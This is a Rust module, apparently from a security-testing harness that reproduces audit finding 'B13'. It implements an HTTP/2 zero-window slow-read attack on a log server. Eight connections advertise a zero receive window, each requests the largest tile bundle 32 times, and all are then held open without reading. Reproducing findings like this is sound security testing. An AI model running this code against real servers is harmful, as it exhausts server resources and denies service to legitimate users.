//! Answers that are asked for and never read (findings B13).

use std::future::pending;
use std::future::poll_fn;

use futures::future::join_all;
use h2::client::Builder;
use http::Method;

use crate::attacks::ground::Ground;

/// How many connections ask, and how often each.
const CONNECTIONS: usize = 8;
const ANSWERS: usize = 32;

/// The bundle with the longest entries of the log.
const BUNDLE: &str = "/tile/entries/000";

/// Asks for the bundle again and again over connections that take no byte of an answer.
pub(crate) async fn run(ground: Ground) {
    let mut builder = Builder::new();
    builder.initial_window_size(0);
    let asked = (0..CONNECTIONS).map(|_| ask(&ground, &builder));
    join_all(asked).await;
}

async fn ask(ground: &Ground, builder: &Builder) {
    let Some(mut connection) = ground.http2(builder).await else {
        return;
    };
    let mut answers = Vec::new();
    for _ in 0..ANSWERS {
        let ready = poll_fn(|context| connection.requests.poll_ready(context)).await;
        let request = ground.request(Method::GET, BUNDLE);
        let sent = ready.and_then(|()| connection.requests.send_request(request, true));
        let Ok((answer, _)) = sent else {
            break;
        };
        answers.push(answer);
    }
    pending().await
}
